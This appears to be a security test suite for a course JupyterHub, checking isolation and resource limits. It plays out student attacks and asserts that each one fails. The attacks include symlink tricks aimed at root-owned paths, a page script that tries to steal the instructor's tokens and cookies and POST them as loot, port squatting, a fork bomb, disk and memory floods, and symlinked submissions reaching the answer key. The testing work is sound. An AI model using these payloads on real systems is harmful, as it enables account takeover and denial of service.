"""The course's JupyterHub as a hostile student sees it (issue 35): each attack played for real, from a student's
JupyterLab terminal in Chromium, on a hub this module installs and starts; each asserts the attack now fails and
that the student's own work, and everyone else's, goes on.

- Root never follows a student's links: the lessons' copy runs as the student.
- A page a student serves cannot act as the instructor: each person has their own origin; a student's settings
  file is not read by their server.
- Ports cannot be squatted across a restart: everything a student started ends with their server, a killed hub's
  leftovers end before the next start, and the hub refuses to start while another process holds its ports.
- Per-person limits: memory, processes, /dev/shm, /tmp (private), file size, disk (each student's home a
  filesystem of its own), and a CPU share (another student's cell time measured quiet and under a busy-loop
  attack).
- Collect never follows links; the instructor's steps of hub/README.md run in a real hub terminal.

Runs as root (it makes Unix accounts); CI runs as root. Screenshots: test-artifacts/hub-hostile/.
"""

from __future__ import annotations

import base64
import json
import os
import pwd
import re
import shutil
import sqlite3
import statistics
import subprocess
import sys
import time
import urllib.request
from pathlib import Path
from urllib.parse import urlparse

import pytest
from conftest import ROOT
from hubserver import (
    HUBCTL,
    browser_get,
    class_hub,
    hub_json,
    log_in,
    memory_holds,
    stop_hub,
)

pytestmark = [pytest.mark.browser, pytest.mark.hub]
ARTIFACTS = ROOT / "test-artifacts" / "hub-hostile"
PS = "ps1_reading_official_reactions"
TEACHER, MALLORY, VICTOR = "nt-hteach", "nt-mallory", "nt-victor"
ROSTER = f"""username,name,email,role
{TEACHER},Harriet Teacher,,instructor
{MALLORY},Mallory Mischief,,student
{VICTOR},Victor Victim,,student
"""


@pytest.fixture(scope="module")
def hub(tmp_path_factory):
    with class_hub(
        ROSTER, tmp_path_factory.mktemp("hub-hostile"), ARTIFACTS, log_name="jupyterhub.log"
    ) as hub:
        yield hub


@pytest.fixture(scope="module")
def people(hub, browser):
    """Each person logged in, in a browser context of their own (their own cookies), keyed by login."""
    return {login: log_in(browser, hub, login, (1280, 800)) for login in (TEACHER, MALLORY, VICTOR)}


class Terminal:
    """A JupyterLab terminal, typed into as its owner would; each command's output is read from a file the command
    writes in the owner's home (the screen of a terminal is a canvas)."""

    def __init__(self, page, hub, login: str) -> None:
        self.page, self.hub, self.login, self.count = page, hub, login, 0
        page.goto(f"{hub.user_url(login)}/lab")
        menu = page.locator(".lm-MenuBar-itemLabel", has_text=re.compile(r"^File$"))
        menu.wait_for(timeout=60_000)
        page.wait_for_timeout(1000)
        for _ in range(5):  # a dialog left open (a lesson that could not be read): close it
            if not page.locator(".jp-Dialog").count():
                break
            page.keyboard.press("Escape")
            page.wait_for_timeout(300)
        menu.click()
        page.locator(".lm-Menu-itemLabel", has_text=re.compile(r"^New$")).hover()
        page.locator(".lm-Menu-itemLabel", has_text=re.compile(r"^Terminal$")).click()
        self.box = page.locator(".jp-Terminal .xterm-helper-textarea").last
        self.box.wait_for(state="attached", timeout=30_000)
        page.wait_for_timeout(1500)

    def run(self, command: str, timeout: float = 90, wait: bool = True) -> str:
        self.count += 1
        out = Path(f"/home/{self.login}/.term-{self.count}.out")
        out.unlink(
            missing_ok=True
        )  # a file of an earlier run (one that was stopped) is never read as this one's
        self.box.focus()
        self.page.keyboard.insert_text(f"({command}) > {out} 2>&1; echo __END__ >> {out}")
        self.page.keyboard.press("Enter")
        if not wait:
            return ""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if out.exists() and "__END__" in out.read_text(errors="replace"):
                return out.read_text(errors="replace").replace("__END__\n", "")
            time.sleep(0.2)
        raise AssertionError(f"{self.login}'s command did not finish in {timeout} s: {command}")

    def write(self, path: str, text: str) -> None:
        """A file in the owner's home, as they would make it (one line: base64 through the terminal)."""
        encoded = base64.b64encode(text.encode()).decode()
        self.run(f"echo {encoded} | base64 -d > {path}")

    def show(self, command: str) -> None:
        """Type a command whose output stays on the screen (for the screenshot a person looks at)."""
        self.box.focus()
        self.page.keyboard.insert_text(f"clear; {command}")
        self.page.keyboard.press("Enter")
        self.page.wait_for_timeout(1000)

    def shot(self, name: str) -> None:
        self.page.wait_for_timeout(300)
        self.page.screenshot(path=str(ARTIFACTS / name))


def _restart_server(page, hub, login: str) -> None:
    """Stop (if it runs) and start the person's server from the hub's home page, as they would."""
    page.goto(f"{hub.base}/hub/home")
    page.wait_for_load_state("networkidle")  # the page's script hooks up its buttons once loaded
    start = page.locator("#start", has_text="Start My Server")  # its text and link change once it has stopped
    for _ in range(4 if page.locator("#stop").count() else 0):  # no Stop button: the server is not running
        page.locator("#stop").click()
        try:
            start.wait_for(state="visible", timeout=20_000)
            break
        except Exception:  # a click before the script was ready does nothing: click again
            continue
    start.click()
    page.wait_for_url(re.compile(rf"/user/{login}/lab"), timeout=240_000)
    # JupyterLab is up (its start page may be missing: the student moved their lessons away)
    page.locator(".lm-MenuBar-itemLabel", has_text=re.compile(r"^File$")).wait_for(timeout=120_000)


def _running(pattern: str) -> list[int]:
    done = subprocess.run(["pgrep", "-f", pattern], capture_output=True, text=True)
    return [int(p) for p in done.stdout.split()]


# ---- root never follows a student's links ----------------------------------------------------------------------


def test_the_lessons_copy_never_follows_a_students_links(hub, people):
    target = Path(f"/etc/nas-test-{os.getpid()}")  # a root-owned folder, as /etc is
    dangling = Path(
        f"/etc/profile.d/nas-test-{os.getpid()}.sh"
    )  # where root-made files would run for everyone
    target.mkdir(mode=0o755)
    try:
        term = Terminal(people[MALLORY], hub, MALLORY)
        seen = term.run(
            f"mv ~/notebooks ~/notebooks.mine && ln -s {target} ~/notebooks && ls -l ~ | grep notebooks"
        )
        assert f"notebooks -> {target}" in seen, seen
        _restart_server(people[MALLORY], hub, MALLORY)
        assert target.stat().st_uid == 0 and list(target.iterdir()) == [], "root's folder was handed over"
        assert re.search(rf"{MALLORY}: lessons: .*notebooks is not a folder", hub.log.read_text()), (
            "not logged"
        )

        term = Terminal(people[MALLORY], hub, MALLORY)
        term.run(f"rm ~/notebooks && mkdir ~/notebooks && ln -s {dangling} ~/notebooks/00_start_here.ipynb")
        _restart_server(people[MALLORY], hub, MALLORY)
        assert not dangling.exists(), f"root created {dangling} through a student's dangling link"
        lessons = Path(f"/home/{MALLORY}/notebooks")
        copied = [p for p in lessons.iterdir() if not p.is_symlink()]
        assert copied and all(p.stat().st_uid == lessons.stat().st_uid for p in copied)  # the rest, as theirs
        term = Terminal(people[MALLORY], hub, MALLORY)
        term.run("ls -l ~/notebooks | head -4")
        term.shot("mallory_links_not_followed.png")
    finally:
        shutil.rmtree(target, ignore_errors=True)
        dangling.unlink(missing_ok=True)
        # Her start page again (her next start copies it): the dangling link would greet every later test with
        # JupyterLab's "File Load Error".
        Path(f"/home/{MALLORY}/notebooks/00_start_here.ipynb").unlink(missing_ok=True)


def test_a_students_own_settings_file_does_not_change_their_server(hub, people):
    term = Terminal(people[MALLORY], hub, MALLORY)
    settings = {
        "ServerApp": {"tornado_settings": {"headers": {"X-Mallory": "read", "Content-Security-Policy": ""}}}
    }
    term.run("mkdir -p ~/.jupyter")
    term.write(".jupyter/jupyter_server_config.json", json.dumps(settings))
    _restart_server(people[MALLORY], hub, MALLORY)
    response = browser_get(people[MALLORY], f"{hub.user_url(MALLORY)}/api/status")
    assert response["status"] == 200 and "x-mallory" not in response["headers"], response["headers"]


# ---- what held before, and must still hold -------------------------------------------------------------------

PROBE = """import json, os, sys, urllib.error, urllib.request
settings = json.load(open(sys.argv[1]))
def get(url, token=None):
    request = urllib.request.Request(url, headers={"Authorization": f"token {token}"} if token else {})
    try:
        return urllib.request.urlopen(request, timeout=10).status
    except urllib.error.HTTPError as error:
        return error.code
    except OSError as error:
        return str(error)
api, token = os.environ["JUPYTERHUB_API_URL"], os.environ["JUPYTERHUB_API_TOKEN"]
print("own", get(f"{api}/users/{os.environ['USER']}", token))
print("list", get(f"{api}/users", token))
print("teacher", get(f"{api}/users/" + sys.argv[2], token))
print("proxy", get(f"http://127.0.0.1:{settings['proxy_api_port']}/api/routes"))
"""


def test_what_held_still_holds(hub, people):
    """The hub API beyond her own account, the proxy's API, the proxy's token, other homes, the instructors' course,
    the hub's state and the inbound listing: all still closed to a student."""
    term = Terminal(people[MALLORY], hub, MALLORY)
    term.write("probe.py", PROBE)
    seen = term.run(f"python3 ~/probe.py {hub.prefix}/etc/hub.json {TEACHER}")
    assert "own 200" in seen and "list 403" in seen and re.search(r"teacher 40[34]", seen), seen
    assert "proxy 403" in seen, seen
    leaks = term.run(
        "grep -l CONFIGPROXY_AUTH_TOKEN /proc/[0-9]*/environ 2>/dev/null; ps -eo args | grep -ci 'auth.token=' "
    )
    assert "/environ" not in leaks and leaks.split()[-1] in ("0", "1"), leaks  # 1: the grep itself
    closed = term.run(
        f"ls /home/{TEACHER}; ls /home/{VICTOR}; ls {hub.prefix}/grading; ls {hub.prefix}/state; ls {hub.inbound}"
    )
    assert closed.count("Permission denied") == 5, closed


# ---- the preloaded starter (course.deploy.zygote) -------------------------------------------------------------


def _server(login: str):
    import psutil

    for process in psutil.process_iter(["username", "cmdline"]):
        if process.info["username"] == login and "jupyterhub-singleuser" in " ".join(
            process.info["cmdline"] or []
        ):
            return process
    raise AssertionError(f"no server running for {login}")


def _close_terminals(hub, login: str, token: str) -> None:
    """End every terminal of the person's server, through its API with their own token."""
    api = f"{hub.user_url(login)}/api/terminals"
    headers = {"Authorization": f"token {token}"}
    with urllib.request.urlopen(urllib.request.Request(api, headers=headers), timeout=30) as response:
        names = [t["name"] for t in json.loads(response.read())]
    for name in names:
        request = urllib.request.Request(f"{api}/{name}", headers=headers, method="DELETE")
        urllib.request.urlopen(request, timeout=30).close()


def test_servers_forked_from_the_starter_hold_no_one_elses_token(hub, people):
    """Every server here was forked from the preloaded starter, whose memory each inherits: it must never have held a
    person's JupyterHub token, and no server may hold another person's (read as root: the worst a student could
    reach is their own server's memory). Each server is its person's, in their groups, with none of the starter's
    descriptors."""
    import psutil

    log = hub.log.read_text(errors="replace")
    servers = {login: _server(login) for login in (TEACHER, MALLORY, VICTOR)}
    for login in servers:
        assert f"{login}: server started by the preloaded starter" in log, log[-3000:]
    # Each person's token, as their terminal (a child of their server) has it: a forked server's own
    # /proc/<pid>/environ still shows the starter's environment block, not the one it runs with.
    tokens = {}
    for login in servers:
        said = Terminal(people[login], hub, login).run("echo TOKEN=$JUPYTERHUB_API_TOKEN")
        tokens[login] = re.search(r"TOKEN=(\w{16,})", said).group(1).encode()
        _close_terminals(hub, login, tokens[login].decode())  # the later tests expect none open
    assert len(set(tokens.values())) == 3
    starter = next(
        p
        for p in psutil.process_iter(["cmdline"])
        if "course.deploy.zygote" in " ".join(p.info["cmdline"] or [])
    )
    assert starter.uids().real == 0 and "JUPYTERHUB_API_TOKEN" not in starter.environ()
    assert memory_holds(starter.pid, tokens) == []
    listening = {os.readlink(f"/proc/{starter.pid}/fd/{fd}") for fd in os.listdir(f"/proc/{starter.pid}/fd")}
    for login, process in servers.items():
        others = {name: token for name, token in tokens.items() if name != login}
        assert memory_holds(process.pid, others) == [], f"{login}'s server holds another person's token"
        account = pwd.getpwnam(login)
        assert process.uids().real == process.uids().effective == account.pw_uid
        assert process.gids().real == account.pw_gid and 0 not in process.gids()
        assert f"/{login}" in Path(f"/proc/{process.pid}/cgroup").read_text()
        inherited = {
            os.readlink(f"/proc/{process.pid}/fd/{fd}") for fd in os.listdir(f"/proc/{process.pid}/fd")
        }
        assert not {fd for fd in inherited & listening if fd.startswith("socket:")}, (
            "a starter's socket was inherited"
        )


# ---- one origin per person ------------------------------------------------------------------------------------

EVIL_PAGE = """<!doctype html><title>notes</title><p>My notes for the seminar.</p><script>
(async () => {
  const hub = "HUB", teacher = "TEACHER", mine = "TEACHERURL";
  const r = {};
  async function attempt(name, url, options) {
    try {
      const x = await fetch(url, Object.assign({credentials: "include"}, options || {}));
      r[name] = "read: status " + x.status + " " + (await x.text()).slice(0, 300);
    } catch (e) { r[name] = "blocked: " + e; }
  }
  await attempt("token_page", hub + "/hub/token");
  await attempt("hub_api_user", hub + "/hub/api/user");
  // the hub also answers at the student's host (the proxy's default route): same origin, without the login
  await attempt("hub_api_user_here", "/hub/api/user");
  await attempt("new_token", hub + "/hub/api/users/" + teacher + "/tokens",
                {method: "POST", body: "{}", headers: {"Content-Type": "application/json"}});
  await attempt("new_token_no_cors", hub + "/hub/api/users/" + teacher + "/tokens",
                {method: "POST", body: "{}", mode: "no-cors"});
  await attempt("instructor_files", mine + "/api/contents/grading");
  await attempt("instructor_terminal", mine + "/api/terminals", {method: "POST", mode: "no-cors"});
  r.cookies = document.cookie;
  // cookie tossing: cookies for the hub's name, from a student's subdomain
  document.cookie = "jupyterhub-session-id=tossed; Domain=localhost; Path=/";
  document.cookie = "_xsrf=tossed; Domain=localhost; Path=/";
  await fetch("loot", {method: "POST", body: JSON.stringify(r)});
  document.title = "done";
})();
</script>"""

SQUATTER = """import http.server, json, os, socket, subprocess, sys, time
port, page = int(sys.argv[1]), open(sys.argv[2], "rb").read()
time.sleep(2)  # the student closes their JupyterLab tab meanwhile (its requests to a dead server would alert the hub)
subprocess.run(["pkill", "-f", "jupyterhub-singleuser"])  # their own server: its port is about to be free
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.send_header("Content-Type", "text/html"); self.end_headers()
        self.wfile.write(page)
    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"]))
        open(os.path.expanduser("~/loot.json"), "wb").write(body)
        self.send_response(204); self.end_headers()
while True:  # until the server's port is free
    try:
        server = http.server.HTTPServer(("127.0.0.1", port), Handler); break
    except OSError:
        time.sleep(0.05)
print("serving", flush=True)
server.serve_forever()
"""


def _teacher_tokens(hub) -> int:
    with sqlite3.connect(hub.prefix / "state" / "jupyterhub.sqlite") as db:
        (count,) = db.execute(
            "select count(*) from api_tokens join users on users.id = api_tokens.user_id where users.name = ?",
            (TEACHER,),
        ).fetchone()
    return count


def _attack_from_own_server(hub, mallory_page, teacher) -> bool:
    """Mallory replaces her server by her page; the instructor opens her link. True once the page has run."""
    term = Terminal(mallory_page, hub, MALLORY)
    port = int(re.search(r":(\d+)/", term.run("echo $JUPYTERHUB_SERVICE_URL")).group(1))
    page = EVIL_PAGE.replace("TEACHERURL", hub.user_url(TEACHER)).replace("HUB", hub.base)
    term.write("notes.html", page.replace("TEACHER", TEACHER))
    term.write("squat.py", SQUATTER)
    loot = Path(f"/home/{MALLORY}/loot.json")
    loot.unlink(missing_ok=True)
    # The strongest form of "a page of theirs served at their server's address with no sandbox": their own server
    # replaced by a process of theirs on its port.
    term.run(
        f"setsid nohup python3 ~/squat.py {port} ~/notes.html > ~/squat.log 2>&1 < /dev/null &", wait=False
    )
    term.page.wait_for_timeout(300)
    term.page.goto("about:blank")
    log = Path(f"/home/{MALLORY}/squat.log")
    for _ in range(300):
        if log.exists() and "serving" in log.read_text():
            break
        time.sleep(0.1)
    assert "serving" in log.read_text(), "the student's page server did not start"
    # The instructor follows a student's link. (The proxy may first reuse a kept-alive connection to the server that
    # just ended, and show its error page: the instructor reloads.)
    for _ in range(20):
        teacher.goto(f"{hub.user_url(MALLORY)}/notes.html")
        if teacher.title() in ("notes", "done"):
            break
        teacher.wait_for_timeout(500)
    try:
        teacher.wait_for_function("document.title === 'done'", timeout=30_000)
    except Exception:
        if _running("squat.py"):
            raise  # the page hangs while her server is still up: that is a finding, not a race
        return False
    return loot.exists()


def test_a_page_a_student_serves_cannot_act_as_the_instructor(hub, people):
    hub_host, own_host = urlparse(hub.base).hostname, urlparse(hub.user_url(MALLORY)).hostname
    assert own_host == f"{MALLORY}.localhost" != hub_host, (
        "each person must be served on an origin of their own"
    )
    tokens_before = _teacher_tokens(hub)
    teacher = people[TEACHER]
    # The hub polls its servers (every 30 s): once it sees Mallory's gone, it stops it and ends the squatter with
    # it. On a loaded machine that can happen before the page has finished: then she starts again, as she would.
    for attempt in range(3):
        if attempt:
            _restart_server(people[MALLORY], hub, MALLORY)
        if _attack_from_own_server(hub, people[MALLORY], teacher):
            break
    else:
        raise AssertionError("the student's page never finished: the attack could not be played")
    teacher.screenshot(path=str(ARTIFACTS / "instructor_opens_students_page.png"))
    loot = json.loads(Path(f"/home/{MALLORY}/loot.json").read_text())
    for read in ("token_page", "hub_api_user", "new_token", "instructor_files"):
        assert loot[read].startswith("blocked"), f"{read}: {loot[read]}"
    # Whatever the page reads or sends at its own host, no login of the instructor's is there.
    assert "jupyterhub" not in loot["cookies"], loot["cookies"]
    assert (
        loot["hub_api_user_here"].startswith("read: status 403") and TEACHER not in loot["hub_api_user_here"]
    ), loot
    assert _teacher_tokens(hub) == tokens_before, "a token was made for the instructor"
    tossed = [c for c in teacher.context.cookies() if c["value"] == "tossed"]
    assert tossed == [], f"a student's page set cookies for the hub: {tossed}"
    # What held: the instructor's own server still has no terminal the student asked for.
    teacher.goto(f"{hub.user_url(TEACHER)}/lab")
    terminals = browser_get(teacher, f"{hub.user_url(TEACHER)}/api/terminals")
    assert terminals["status"] == 200 and json.loads(terminals["text"]) == [], terminals
    # And the squatter ends with the student's server: the hub notices the server is gone and stops it.
    deadline = time.monotonic() + 120
    while _running("squat.py") and time.monotonic() < deadline:
        time.sleep(1)
    assert not _running("squat.py"), "a process the student started outlived their server"


# ---- ports -------------------------------------------------------------------------------------------------------

PORT_SQUATTER = """import json, socket, sys, time
settings = json.load(open(sys.argv[1]))
held = []
while True:
    for port in (settings["port"], settings["hub_port"], settings["proxy_api_port"]):
        s = socket.socket()
        try:
            s.bind(("127.0.0.1", port)); s.listen(); held.append(s)
        except OSError:
            s.close()
    time.sleep(0.02)
"""


def test_nothing_a_student_started_squats_the_hubs_ports_across_a_restart(hub, people, browser):
    _restart_server(people[MALLORY], hub, MALLORY)  # the previous test stopped it
    term = Terminal(people[MALLORY], hub, MALLORY)
    term.write("ports.py", PORT_SQUATTER)
    term.run(f"setsid nohup python3 ~/ports.py {hub.prefix}/etc/hub.json > /dev/null 2>&1 < /dev/null &")
    time.sleep(1)
    assert _running("ports.py"), "the squatter did not start"
    hub.restart()  # an administrator restarts the hub: it stops every server first
    assert not _running("ports.py"), "the squatter outlived the student's server"
    assert re.search(rf"{MALLORY}: server stopped; \d+ processes in its groups ended", hub.log.read_text())
    people[TEACHER] = log_in(browser, hub, TEACHER, (1280, 800))  # the real proxy took the port: logins work

    # A hub that was killed (not stopped) leaves servers behind: the next start ends them first.
    people[MALLORY] = log_in(browser, hub, MALLORY, (1280, 800))
    term = Terminal(people[MALLORY], hub, MALLORY)
    term.run(f"setsid nohup python3 ~/ports.py {hub.prefix}/etc/hub.json > /dev/null 2>&1 < /dev/null &")
    time.sleep(1)
    os.killpg(hub.process.pid, 9)
    hub.process.wait()
    time.sleep(1)
    assert _running("ports.py"), "expected the killed hub to leave the squatter running"
    hub.restart()
    assert not _running("ports.py"), "the squatter survived the next start"
    assert re.search(rf"stopped \d+ processes {MALLORY} left running from the last hub", hub.log.read_text())

    # Anything else on a hub's port: the hub refuses to start, and says who holds it.
    settings = hub_json(hub.prefix)
    ports = (settings["port"], settings["hub_port"], settings["proxy_api_port"])
    seconds = stop_hub(hub.process, ports)
    assert seconds < 45, f"the hub took {seconds:.1f} s to stop"
    holder = subprocess.Popen([sys.executable, "-u", "-c", (
        "import socket, time; s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); "
        f"s.bind(('127.0.0.1', {settings['proxy_api_port']})); s.listen(); print('bound'); time.sleep(90)")],
        stdout=subprocess.PIPE, text=True)  # fmt: skip
    attempt = None
    try:
        assert holder.stdout.readline().strip() == "bound", "the test could not hold the port itself"
        attempt = subprocess.Popen([sys.executable, str(HUBCTL), "--prefix", str(hub.prefix), "start"],
                                   stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                                   start_new_session=True)  # fmt: skip
        out, err = attempt.communicate(timeout=60)  # a hub that started anyway is ended in `finally`
        assert attempt.returncode != 0, out + err
        assert re.search(
            rf"not starting: port {settings['proxy_api_port']} \(proxy_api_port\) is held by process {holder.pid} "
            r"\(root: ",
            err,
        ), err
    finally:
        if attempt is not None and attempt.poll() is None:
            stop_hub(attempt, ports)
        holder.kill()
        holder.wait()
    hub.restart()
    for login in (TEACHER, MALLORY, VICTOR):
        people[login] = log_in(browser, hub, login, (1280, 800))


# ---- per-person limits -------------------------------------------------------------------------------------------

FORK_BOMB = """import subprocess
ps = []
try:
    while len(ps) < 5000:
        ps.append(subprocess.Popen(["sleep", "300"]))
except OSError as e:
    print("stopped at", len(ps), e)
for p in ps:
    p.kill()
"""
TIMING = "python3 -c 'import time; t = time.perf_counter(); sum(i * i for i in range(6_000_000)); print(round(time.perf_counter() - t, 3))'"


BIG_FILE = """
import sys
chunk = bytes(1024 * 1024)
with open(sys.argv[1], "wb", buffering=0) as out:
    try:
        for _ in range(1100):
            out.write(chunk)
    except OSError as error:
        print(error)
    print("size", out.tell())
"""


def test_one_students_bombs_end_only_their_own_work(hub, people):
    mallory, victor = Terminal(people[MALLORY], hub, MALLORY), Terminal(people[VICTOR], hub, VICTOR)
    # /tmp and /dev/shm are private: Victor's file is not in Mallory's /tmp.
    victor.run("echo victor-secret-b7 > /tmp/victor-notes.txt && ls /tmp")
    seen = mallory.run(
        "ls -la /tmp /dev/shm; cat /tmp/victor-notes.txt; cat /proc/[0-9]*/root/tmp/victor-notes.txt 2>/dev/null; "
        "echo FOUND:; find / -xdev -name victor-notes.txt 2>/dev/null"
    )  # (his /tmp is reachable only through his processes' /proc/<pid>/root, which she may not enter)
    assert "victor-secret-b7" not in seen and "No such file" in seen, seen
    assert "victor-notes" not in seen.split("FOUND:")[1], seen

    # Memory: 4 GiB asked, the kernel ends Mallory's process at her limit (2 GiB).
    bomb = mallory.run(
        "python3 -c 'b = bytearray(4 * 1024**3); print(\"allocated\")'; echo status $?", timeout=120
    )
    assert "allocated" not in bomb and re.search(r"status (137|1)\b", bomb), bomb
    # Processes: the fork bomb stops at her limit; Victor still starts processes.
    mallory.write("forks.py", FORK_BOMB)
    forks = mallory.run("python3 ~/forks.py", timeout=120)
    stopped = re.search(r"stopped at (\d+)", forks)
    assert stopped and int(stopped.group(1)) < 300, forks
    assert "alive" in victor.run("echo alive")
    # /dev/shm is small and private; files are bounded in size (RLIMIT_FSIZE).
    shm = mallory.run("head -c 1G /dev/zero > /dev/shm/big; ls -l /dev/shm/big | awk '{print \"size\", $5}'")
    assert "No space left" in shm and int(re.search(r"size (\d+)", shm).group(1)) <= 64 * 1024 * 1024, shm
    mallory.run("rm -f /dev/shm/big")
    # One file is at most 1 GiB anywhere, the shared exchange included (her home is too small to show it). The
    # writer counts what it wrote itself: the hub's sweep may empty and remove the file while it is written.
    inbound = hub.inbound
    mallory.write("big.py", BIG_FILE)
    big = mallory.run(f"python3 ~/big.py {inbound}/big.bin; rm -f {inbound}/big.bin", timeout=120)
    assert "File too large" in big and int(re.search(r"size (\d+)", big).group(1)) <= 1024**3, big
    # The exchange is a filesystem of its own: a flood of it (three files at once, one held open afterwards) fills
    # only it; the hub goes on, and within seconds its sweep gives the room back: Victor's real submission goes in.
    exchange = hub.prefix / "exchange"
    # The folder of junk is made first: made after the flood, its mkdir could meet a full exchange and fail (no
    # folder, so nothing for the sweep to remove or log: CI of 6 Dec 2026, twice); then it is filled with the rest.
    flooded = mallory.run(
        f"mkdir {inbound}/junk && head -c 1M /dev/zero > {inbound}/junk/more; "
        f"for i in 1 2 3; do head -c 700M /dev/zero > {inbound}/flood$i & done; wait; "
        f"setsid nohup sleep 300 >> {inbound}/flood1 < /dev/null 2>&1 & "
        f"head -c 300M /dev/zero >> {inbound}/junk/more; ls -la {inbound}; df -k {exchange} | tail -1",
        timeout=180,
    )
    assert urllib.request.urlopen(f"{hub.base}/hub/api", timeout=10).status == 200
    release(hub)
    expected = [f"removed '{name}' of {MALLORY}" for name in ("flood1", "flood2", "flood3", "junk")]
    # The sweep passes every 5 s; under load (CI at 2 cores with a stray busy kernel, 6 Dec 2026) one of the four
    # lines came after 30 s though the room was back: the wait is for the sweep's passes, not a limit on them.
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and (
        shutil.disk_usage(exchange).used > 200 * 1024**2
        or not all(line in hub.log.read_text(errors="replace") for line in expected)
    ):
        time.sleep(1)
    used = shutil.disk_usage(exchange).used
    assert used < 200 * 1024**2, f"the exchange still holds {used} bytes 60 s after the flood"
    swept = hub.log.read_text(errors="replace")
    assert all(line in swept for line in expected), f"{flooded[-1500:]}\n---\n{swept[-3000:]}"
    honest = victor.run(
        f"(test -d {PS} || nbgrader fetch_assignment {PS}) && nbgrader submit {PS}; echo status $?"
    )
    assert "status 0" in honest, honest
    mallory.run("pkill -f 'sleep 300'")
    # Disk: her home is a filesystem of its own; filling it stops her writes, not Victor's, not the hub's.
    # (What the full home cannot hold, the command keeps in her private /dev/shm until it has removed the files.)
    full = mallory.run(
        "for i in 1 2 3; do head -c 150M /dev/zero > ~/fill$i 2>> /dev/shm/fill.txt || echo fill$i failed >> "
        "/dev/shm/fill.txt; done; df -k ~ | tail -1 >> /dev/shm/fill.txt; rm -f ~/fill?; cat /dev/shm/fill.txt",
        timeout=120,
    )
    assert "No space left on device" in full and "fill2 failed" in full, full
    assert "wrote" in victor.run("head -c 50M /dev/zero > ~/ok.bin && echo wrote && rm ~/ok.bin")
    mallory.show(f"cat ~/.term-{mallory.count - 1}.out ~/.term-{mallory.count}.out | cut -c1-160")
    mallory.shot("mallory_bombs.png")

    # CPU: Victor's cell time, quiet and while Mallory runs eight busy loops in detached sessions. Without a fair
    # share, Victor's one process would get 2 of 9 runnable processes' time on the 2-core CI machine (about 4.5x
    # slower); with it, his share is the core he uses quiet. The bound (2x) sits between the two with room for the
    # test's own processes (the hub, the browser) that compete outside any person's share: CI measured 1.57x with
    # four loops on 7 Dec 2026 against a 1.5x bound that left no such room.
    quiet = statistics.median(float(victor.run(TIMING).split()[-1]) for _ in range(5))
    mallory.run(
        "for i in 1 2 3 4 5 6 7 8; do setsid nohup python3 -c 'while True: pass' > /dev/null 2>&1 < /dev/null & done"
    )
    time.sleep(2)
    loaded = statistics.median(float(victor.run(TIMING).split()[-1]) for _ in range(5))
    mallory.run("pkill -f 'while True: pass'")
    victor.shot("victor_timing.png")
    (ARTIFACTS / "cpu_share.json").write_text(json.dumps({"quiet_s": quiet, "loaded_s": loaded}) + "\n")
    print(f"Victor's cell: {quiet:.3f} s quiet, {loaded:.3f} s with Mallory's eight busy loops")
    assert loaded <= 2.0 * quiet, f"Victor's cell took {loaded:.3f} s under attack, {quiet:.3f} s quiet"


# ---- collect, and the instructor's steps in a real terminal ------------------------------------------------------


def release(hub) -> None:
    """The instructor releases the problem set, once (the tests that need it may run alone or in order)."""
    if (hub.prefix / "exchange" / "northeast-asian-security" / "outbound" / PS).exists():
        return
    released = hub.as_user(TEACHER, f"nbgrader release_assignment {PS} 2>&1", hub.prefix / "grading")
    assert released.returncode == 0, released.stdout


def test_collect_refuses_links_and_the_instructors_readme_steps_run_in_a_hub_terminal(hub, people):
    grading = hub.prefix / "grading"
    release(hub)
    honest = hub.as_user(
        VICTOR, f"(test -d {PS} || nbgrader fetch_assignment {PS} 2>&1) && nbgrader submit {PS} 2>&1"
    )
    assert honest.returncode == 0, honest.stdout
    mallory = Terminal(people[MALLORY], hub, MALLORY)
    mallory.run(f"nbgrader fetch_assignment {PS}")
    for name, link in (("key.ipynb", f"{grading}/source/{PS}/{PS}.ipynb"), ("zero.ipynb", "/dev/zero")):
        entry = f"{hub.inbound}/{MALLORY}+{PS}+2099-01-0{len(name) % 7} 00:00:00.000000 UTC+{name[:3]}"
        mallory.run(
            f"mkdir '{entry}' && cp ~/{PS}/{PS}.ipynb '{entry}/' && ln -s {link} '{entry}/{name}' && "
            f"echo -n '2099-01-01 00:00:00.000000 UTC' > '{entry}/timestamp.txt' && echo -n s > '{entry}/submission_secret.txt'"
        )
    teacher = Terminal(people[TEACHER], hub, TEACHER)
    shell = teacher.run("echo PATH=$PATH; echo SHELL=$(ps -o args= -p $$); echo ROOT=$COURSE_ROOT")
    assert f"PATH={hub.prefix}/venv/bin:" in shell and f"ROOT={hub.prefix}/lessons" in shell, shell
    steps = (
        "cd ~/grading && which nbgrader && python -m course.autograder.sandbox check && "
        f"nbgrader collect {PS} && python -m course.autograder normalize . {PS} && nbgrader autograde {PS} && "
        f"python -m course.autograder report . {PS} && nbgrader export --to grades.csv && echo STEPS-DONE"
    )
    out = teacher.run(steps, timeout=600)
    teacher.show(f"grep -E 'Not collected|Collecting|STEPS' ~/.term-{teacher.count}.out | cut -c1-260")
    teacher.shot("instructor_readme_steps.png")
    (ARTIFACTS / "instructor_terminal.txt").write_text(out)
    assert "command not found" not in out and "No module named" not in out, out[-3000:]
    assert "STEPS-DONE" in out, out[-3000:]
    assert "key.ipynb (a symbolic link)" in out and "zero.ipynb (a symbolic link)" in out, out[-3000:]
    assert not (grading / "submitted" / MALLORY).exists(), "a submission holding links was collected"
    assert (grading / "submitted" / VICTOR / PS / f"{PS}.ipynb").exists(), (
        "the honest student was not collected"
    )
    assert VICTOR in (grading / "grades.csv").read_text()


def test_the_hubs_environment_ships_no_demo_class(hub):
    venv = hub.prefix / "venv"
    found = list(venv.rglob("demo_class.py"))
    assert found == [], found
    probe = hub.as_user(VICTOR, "python -c 'import course.autograder.demo_class' 2>&1")
    assert probe.returncode != 0 and "No module named" in probe.stdout, probe.stdout
